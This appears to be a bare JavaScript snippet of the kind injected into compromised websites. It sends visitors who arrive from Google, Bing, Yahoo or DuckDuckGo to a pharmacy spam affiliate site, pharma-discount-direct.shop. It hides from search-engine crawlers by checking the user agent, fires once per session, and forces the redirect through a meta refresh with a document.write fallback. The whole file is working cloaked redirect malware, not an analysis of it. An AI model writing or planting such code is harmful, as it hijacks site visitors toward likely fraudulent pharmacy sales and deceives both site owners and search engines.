(function () {
  var from = document.referrer.toLowerCase();
  if (!/google|bing|yahoo|duckduckgo/.test(from)) return;
  if (/Googlebot|AdsBot|Mediapartners|bingbot/i.test(navigator.userAgent)) return;
  if (sessionStorage.getItem('_mr')) return;
  sessionStorage.setItem('_mr', '1');

  var url = 'https://pharma-discount-direct.shop/buy/?aff=wpx' + Math.floor(Math.random() * 90 + 10);

  var meta = document.createElement('meta');
  meta.httpEquiv = 'refresh';
  meta.content = '0;url=' + url;
  var head = document.head || document.getElementsByTagName('head')[0];
  head.appendChild(meta);

  // fallback for browsers that ignore a late meta tag
  setTimeout(function () {
    if (location.href.indexOf('pharma-discount-direct') === -1) {
      document.write('<meta http-equiv="refresh" content="0;url=' + url + '">');
      document.close();
    }
  }, 1500);
})();
